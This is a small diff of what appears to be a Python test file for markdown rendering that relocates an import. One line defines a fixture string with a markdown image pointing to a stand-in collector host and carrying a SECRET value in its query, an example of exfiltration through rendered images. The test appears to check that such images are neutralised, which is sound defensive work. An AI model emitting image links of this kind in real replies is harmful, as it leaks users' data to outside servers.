@@ -5,8 +5,8 @@ from __future__ import annotations
 import pytest
 
 from vision.history.export import export_markdown
-from vision.history.records import Run
 from vision.markdown import answer_markdown, inert_images
+from vision.values.run import Run
 
 EXFILTRATING = "Done. ![x](https://collector.example/p.png?data=SECRET)"
 
